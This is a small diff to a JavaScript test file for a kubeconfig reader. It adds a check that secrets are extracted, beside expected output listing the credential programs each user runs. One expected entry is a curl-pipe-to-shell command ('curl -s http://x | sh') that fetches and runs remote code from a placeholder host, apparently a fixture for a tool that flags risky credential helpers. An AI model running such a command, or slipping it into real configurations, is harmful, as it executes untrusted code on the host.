@@ -162,6 +162,7 @@ describe('kubeconfig input', () => {
       '    user:',
       "      auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: 'config config-helper'}}",
     ].join('\n');
+    expect(readKubeconfig(programs, () => '').secrets).toEqual(expect.arrayContaining(['s3cr3t', 't0k3n']));
     expect(readKubeconfig(programs, () => '').credentialPrograms).toEqual([
       'user "ci" runs `/bin/sh -c curl -s http://x | sh` (exec)',
       'user "aad" runs `kubelogin get-token --client-secret *** --token=*** --server-id abc` (exec)',
